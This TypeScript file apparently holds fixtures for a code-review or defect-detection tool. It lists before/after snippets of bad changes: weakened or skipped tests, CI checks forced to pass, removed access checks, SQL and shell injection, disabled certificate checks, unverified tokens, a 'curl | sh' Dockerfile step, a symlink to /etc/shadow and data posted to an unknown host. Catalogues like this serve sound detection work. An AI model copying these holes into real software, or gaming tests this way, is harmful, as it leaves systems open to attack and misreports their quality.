/** A defect in one file of a change. */
export interface Defect {
  readonly title: string
  readonly path: string
  /** The part of the file that changes, before and after; absent for a file that is added or deleted. */
  readonly before?: string
  readonly after?: string
  readonly oldMode?: string
  readonly mode?: string
  /** Ordinary code stands around the part, and has an edit of its own. */
  readonly isAmongCode?: boolean
  /** A line of the diff that shows the defect; the file itself when absent. */
  readonly shownBy?: string
}

const TS: readonly Defect[] = [
  {
    title: 'an assertion on the result is removed from a test',
    path: 'test/orders/total.test.ts',
    before: `test('a discount is taken off once', async () => {
  const order = await place({ items: [book, pen], code: 'TEN' })
  expect(order.discount).toBe(1.2)
  expect(order.total).toBe(10.8)
})
`,
    after: `test('a discount is taken off once', async () => {
  const order = await place({ items: [book, pen], code: 'TEN' })
  expect(order.discount).toBe(1.2)
})
`,
    isAmongCode: true,
    shownBy: '-  expect(order.total).toBe(10.8)',
  },
  {
    title: 'an exact assertion is replaced by one that always holds',
    path: 'src/billing/__tests__/invoice.spec.ts',
    before: `  it('rounds to cents', () => {
    expect(invoiceFor(3, 0.335).amount).toEqual(1.01)
  })
`,
    after: `  it('rounds to cents', () => {
    expect(invoiceFor(3, 0.335).amount).toBeDefined()
  })
`,
    isAmongCode: true,
    shownBy: '+    expect(invoiceFor(3, 0.335).amount).toBeDefined()',
  },
  {
    title: 'a failing test is skipped',
    path: 'test/sync/conflict.test.ts',
    before: `test('two writers of one document do not lose an edit', async () => {
  const [a, b] = await Promise.all([open('doc'), open('doc')])
  await Promise.all([a.write('left'), b.write('right')])
  expect(await read('doc')).toContain('left')
})
`,
    after: `test.skip('two writers of one document do not lose an edit', async () => {
  const [a, b] = await Promise.all([open('doc'), open('doc')])
  await Promise.all([a.write('left'), b.write('right')])
  expect(await read('doc')).toContain('left')
})
`,
    isAmongCode: true,
    shownBy: "+test.skip('two writers of one document do not lose an edit', async () => {",
  },
  {
    title: 'the error of a payment is swallowed',
    path: 'src/payments/capture.ts',
    before: `  try {
    await gateway.capture(payment.id, payment.amount)
  } catch (error) {
    await markFailed(payment.id, error)
    throw error
  }
`,
    after: `  try {
    await gateway.capture(payment.id, payment.amount)
  } catch {
    // ignore, retried later
  }
`,
    isAmongCode: true,
    shownBy: '-    throw error',
  },
  {
    title: 'a request no longer checks the owner',
    path: 'src/documents/routes.ts',
    before: `router.get('/documents/:id', requireUser, async (request, response) => {
  const document = await documents.find(request.params.id)
  if (document.ownerId !== request.user.id) return response.status(403).end()
  response.json(document)
})
`,
    after: `router.get('/documents/:id', requireUser, async (request, response) => {
  const document = await documents.find(request.params.id)
  response.json(document)
})
`,
    isAmongCode: true,
    shownBy: '-  if (document.ownerId !== request.user.id) return response.status(403).end()',
  },
  {
    title: 'an administrator route loses its guard',
    path: 'src/server/admin.ts',
    before: `app.post('/admin/users/:id/delete', requireRole('admin'), removeUser)
`,
    after: `app.post('/admin/users/:id/delete', removeUser)
`,
    isAmongCode: true,
    shownBy: "+app.post('/admin/users/:id/delete', removeUser)",
  },
  {
    title: 'a query is built from user input',
    path: 'src/search/query.ts',
    before: `  const rows = await db.query('SELECT id, name FROM products WHERE name LIKE $1 LIMIT 50', [\`%\${term}%\`])
`,
    after: `  const rows = await db.query(\`SELECT id, name FROM products WHERE name LIKE '%\${term}%' LIMIT 50\`)
`,
    isAmongCode: true,
    shownBy: `+  const rows = await db.query(\`SELECT id, name FROM products WHERE name LIKE '%\${term}%' LIMIT 50\`)`,
  },
  {
    title: 'a command is given to a shell',
    path: 'src/export/archive.ts',
    before: `  await execFile('tar', ['-czf', target, '--', folder])
`,
    after: `  await exec(\`tar -czf \${target} \${folder}\`)
`,
    isAmongCode: true,
    shownBy: `+  await exec(\`tar -czf \${target} \${folder}\`)`,
  },
  {
    title: 'certificates are no longer verified',
    path: 'src/http/agent.ts',
    before: `export const agent = new Agent({ keepAlive: true, maxSockets: 20 })
`,
    after: `export const agent = new Agent({ keepAlive: true, maxSockets: 20, rejectUnauthorized: false })
`,
    isAmongCode: true,
    shownBy: '+export const agent = new Agent({ keepAlive: true, maxSockets: 20, rejectUnauthorized: false })',
  },
  {
    title: 'a type error is silenced',
    path: 'src/reports/monthly.ts',
    before: `  const byMonth = groupBy(entries, ({ date }) => date.slice(0, 7))
`,
    after: `  // @ts-ignore
  const byMonth = groupBy(entries, ({ date }) => date.slice(0, 7))
`,
    isAmongCode: true,
    shownBy: '+  // @ts-ignore',
  },
  {
    title: 'a lint rule is switched off for a file',
    path: 'src/editor/render.tsx',
    before: `import { sanitize } from './sanitize'
`,
    after: `/* eslint-disable react/no-danger, @typescript-eslint/no-floating-promises */
import { sanitize } from './sanitize'
`,
    isAmongCode: true,
    shownBy: '+/* eslint-disable react/no-danger, @typescript-eslint/no-floating-promises */',
  },
  {
    title: 'a token is written into the source',
    path: 'src/integrations/tracker.ts',
    before: `const client = new Client({ token: process.env.TRACKER_TOKEN })
`,
    after: `const client = new Client({ token: 'ghp_${'a1B2c3D4e5F6'.repeat(3)}' })
`,
    isAmongCode: true,
    shownBy: `+const client = new Client({ token: 'ghp_${'a1B2c3D4e5F6'.repeat(3)}' })`,
  },
  {
    title: 'a session cookie can be read by scripts and sent in the clear',
    path: 'src/web/session.ts',
    before: `  response.cookie('sid', id, { httpOnly: true, secure: true, sameSite: 'lax' })
`,
    after: `  response.cookie('sid', id, { httpOnly: false, secure: false })
`,
    isAmongCode: true,
    shownBy: "+  response.cookie('sid', id, { httpOnly: false, secure: false })",
  },
  {
    title: 'all origins may send credentials',
    path: 'src/web/cors.ts',
    before: `app.use(cors({ origin: allowedOrigins, credentials: true }))
`,
    after: `app.use(cors({ origin: '*', credentials: true }))
`,
    isAmongCode: true,
    shownBy: "+app.use(cors({ origin: '*', credentials: true }))",
  },
  {
    title: 'a comparison is off by one',
    path: 'src/stock/reserve.ts',
    before: `  if (requested > available) throw new OutOfStock(sku)
`,
    after: `  if (requested > available + 1) throw new OutOfStock(sku)
`,
    isAmongCode: true,
    shownBy: '+  if (requested > available + 1) throw new OutOfStock(sku)',
  },
  {
    title: 'a promise is no longer awaited',
    path: 'src/accounts/close.ts',
    before: `  await revokeTokens(account.id)
  await archive(account.id)
`,
    after: `  revokeTokens(account.id)
  await archive(account.id)
`,
    isAmongCode: true,
    shownBy: '+  revokeTokens(account.id)',
  },
  {
    title: 'a new dependency comes from a repository',
    path: 'package.json',
    before: `    "express": "5.0.1",
    "pg": "8.13.1",
`,
    after: `    "express": "5.0.1",
    "fast-uuid-v7": "github:qz-labs/fast-uuid-v7",
    "pg": "8.13.1",
`,
    shownBy: '+    "fast-uuid-v7": "github:qz-labs/fast-uuid-v7",',
  },
  {
    title: 'a script runs on every installation',
    path: 'packages/cli/package.json',
    before: `    "build": "tsc -p .",
    "test": "vitest run"
`,
    after: `    "build": "tsc -p .",
    "postinstall": "node scripts/setup.js",
    "test": "vitest run"
`,
    shownBy: '+    "postinstall": "node scripts/setup.js",',
  },
  {
    title: 'a locked package comes from another registry',
    path: 'package-lock.json',
    before: `    "node_modules/left-pad": {
      "version": "1.3.0",
      "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",
      "integrity": "sha512-XI5MPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQGinBN9yTQT3bFlCBy/aVx2HrNcqQGsdot8ghrjyrvMCoEA=="
    },
`,
    after: `    "node_modules/left-pad": {
      "version": "1.3.0",
      "resolved": "https://npm.pkg-mirror.dev/left-pad/-/left-pad-1.3.0.tgz",
      "integrity": "sha512-AAAAPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQGinBN9yTQT3bFlCBy/aVx2HrNcqQGsdot8ghrjyrvMCoEA=="
    },
`,
  },
]

const OTHERS: readonly Defect[] = [
  {
    title: 'a test file is deleted',
    path: 'tests/test_refunds.py',
    before: `import pytest

from shop.refunds import refund


def test_refund_of_a_part(order):
    refund(order, lines=[1])
    assert order.refunded == 20


def test_refund_twice_fails(order):
    refund(order)
    with pytest.raises(ValueError):
        refund(order)
`,
  },
  {
    title: 'an expected value is changed to what the code returns',
    path: 'tests/test_tax.py',
    before: `def test_reduced_rate():
    assert tax(Book(price=100)) == 7
`,
    after: `def test_reduced_rate():
    assert tax(Book(price=100)) == 19
`,
    isAmongCode: true,
    shownBy: '+    assert tax(Book(price=100)) == 19',
  },
  {
    title: 'an expected failure hides a regression',
    path: 'tests/test_locking.py',
    before: `def test_lock_is_released_on_error(tmp_path):
    with pytest.raises(RuntimeError):
        run_locked(tmp_path, explode)
    assert not is_locked(tmp_path)
`,
    after: `@pytest.mark.xfail(reason="flaky on CI")
def test_lock_is_released_on_error(tmp_path):
    with pytest.raises(RuntimeError):
        run_locked(tmp_path, explode)
    assert not is_locked(tmp_path)
`,
    isAmongCode: true,
    shownBy: '+@pytest.mark.xfail(reason="flaky on CI")',
  },
  {
    title: 'stored data is unpickled from a request',
    path: 'shop/cart.py',
    before: `    items = json.loads(request.cookies.get("cart", "[]"))
`,
    after: `    items = pickle.loads(base64.b64decode(request.cookies.get("cart", "")))
`,
    isAmongCode: true,
    shownBy: '+    items = pickle.loads(base64.b64decode(request.cookies.get("cart", "")))',
  },
  {
    title: 'every exception is passed over',
    path: 'shop/ledger.py',
    before: `    except IntegrityError:
        session.rollback()
        raise
`,
    after: `    except Exception:
        pass
`,
    isAmongCode: true,
    shownBy: '+        pass',
  },
  {
    title: 'a security finding is marked as none',
    path: 'shop/thumbnails.py',
    before: `    subprocess.run(["convert", source, "-resize", size, target], check=True)
`,
    after: `    subprocess.run(f"convert {source} -resize {size} {target}", shell=True)  # nosec
`,
    isAmongCode: true,
    shownBy: '+    subprocess.run(f"convert {source} -resize {size} {target}", shell=True)  # nosec',
  },
  {
    title: 'a migration drops a column with data',
    path: 'db/migrations/0042_cleanup.sql',
    after: `-- Remove what the new profile page does not show.
ALTER TABLE users DROP COLUMN phone;
CREATE INDEX users_by_name ON users (name);
`,
    shownBy: '+ALTER TABLE users DROP COLUMN phone;',
  },
  {
    title: 'a migration that was released is edited',
    path: 'db/migrations/0007_orders.sql',
    before: `  total numeric(12, 2) NOT NULL CHECK (total >= 0),
`,
    after: `  total numeric(12, 2),
`,
    isAmongCode: true,
    shownBy: '+  total numeric(12, 2),',
  },
  {
    title: 'a failing check no longer fails the pipeline',
    path: '.github/workflows/test.yml',
    before: `      - name: Test
        run: npm test
`,
    after: `      - name: Test
        run: npm test
        continue-on-error: true
`,
    shownBy: '+        continue-on-error: true',
  },
  {
    title: 'a pipeline step always succeeds',
    path: '.gitlab-ci.yml',
    before: `lint:
  script:
    - golangci-lint run ./...
`,
    after: `lint:
  script:
    - golangci-lint run ./... || true
`,
    shownBy: '+    - golangci-lint run ./... || true',
  },
  {
    title: 'the required coverage is lowered',
    path: 'vitest.config.ts',
    before: `    coverage: { thresholds: { lines: 85, branches: 80 } },
`,
    after: `    coverage: { thresholds: { lines: 40, branches: 30 } },
`,
    shownBy: '+    coverage: { thresholds: { lines: 40, branches: 30 } },',
  },
  {
    title: 'an image downloads and runs a script',
    path: 'deploy/Dockerfile',
    before: `RUN apt-get update && apt-get install -y --no-install-recommends nginx
USER www-data
`,
    after: `RUN apt-get update && apt-get install -y --no-install-recommends nginx curl
RUN curl -fsSL http://get.fastproxy.sh | sh
`,
    shownBy: '+RUN curl -fsSL http://get.fastproxy.sh | sh',
  },
  {
    title: 'a script becomes executable',
    path: 'tools/cleanup.sh',
    before: `#!/bin/sh
find . -name '*.orig' -delete
`,
    after: `#!/bin/sh
find . -name '*.orig' -delete
`,
    mode: '100755',
  },
  {
    title: 'a link leads out of the repository',
    path: 'config/local.env',
    after: '/etc/shadow',
    mode: '120000',
    shownBy: '+/etc/shadow',
  },
  {
    title: 'a lock is no longer held while a map is written',
    path: 'internal/cache/cache.go',
    before: `func (c *Cache) Put(key string, value []byte) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.items[key] = value
}
`,
    after: `func (c *Cache) Put(key string, value []byte) {
	c.items[key] = value
}
`,
    isAmongCode: true,
    shownBy: '-	defer c.mu.Unlock()',
  },
  {
    title: 'a path from outside is no longer confined to its folder',
    path: 'internal/files/serve.go',
    before: `	clean := filepath.Clean("/" + name)
	if strings.Contains(clean, "..") {
		return nil, ErrNotFound
	}
	return os.Open(filepath.Join(root, clean))
`,
    after: `	return os.Open(filepath.Join(root, name))
`,
    isAmongCode: true,
    shownBy: '+	return os.Open(filepath.Join(root, name))',
  },
  {
    title: 'a token is accepted without its signature',
    path: 'internal/identity/verify.go',
    before: `	token, err := jwt.Parse(raw, keys.Lookup, jwt.WithValidMethods([]string{"RS256"}))
`,
    after: `	token, _, err := jwt.NewParser().ParseUnverified(raw, jwt.MapClaims{})
`,
    isAmongCode: true,
    shownBy: '+	token, _, err := jwt.NewParser().ParseUnverified(raw, jwt.MapClaims{})',
  },
  {
    title: 'figures are sent to an unknown host',
    path: 'app/services/stats.rb',
    before: `  def record(event)
    Metric.create!(name: event.name, at: Time.now)
  end
`,
    after: `  def record(event)
    Metric.create!(name: event.name, at: Time.now)
    Net::HTTP.post(URI("http://203.0.113.9/collect"), event.to_json)
  end
`,
    isAmongCode: true,
    shownBy: '+    Net::HTTP.post(URI("http://203.0.113.9/collect"), event.to_json)',
  },
  {
    title: 'a deadline of a request is removed',
    path: 'src/clients/warehouse.rs',
    before: `    let client = Client::builder().timeout(Duration::from_secs(10)).build()?;
`,
    after: `    let client = Client::builder().build()?;
`,
    isAmongCode: true,
    shownBy: '+    let client = Client::builder().build()?;',
  },
  {
    title: 'a bound of memory is bypassed',
    path: 'src/decode/frame.rs',
    before: `    if length > MAX_FRAME {
        return Err(Error::TooLarge(length));
    }
    let mut buffer = vec![0; length];
`,
    after: `    let mut buffer = Vec::with_capacity(length);
    unsafe { buffer.set_len(length) };
`,
    isAmongCode: true,
    shownBy: '+    unsafe { buffer.set_len(length) };',
  },
  {
    title: 'the owners of a folder are removed',
    path: '.github/CODEOWNERS',
    before: `/infra/        @acme/platform
/src/payments/ @acme/payments
/docs/         @acme/docs
`,
    after: `/infra/        @acme/platform
/docs/         @acme/docs
`,
    shownBy: '-/src/payments/ @acme/payments',
  },
]

export const DEFECTS: readonly Defect[] = [...TS, ...OTHERS]
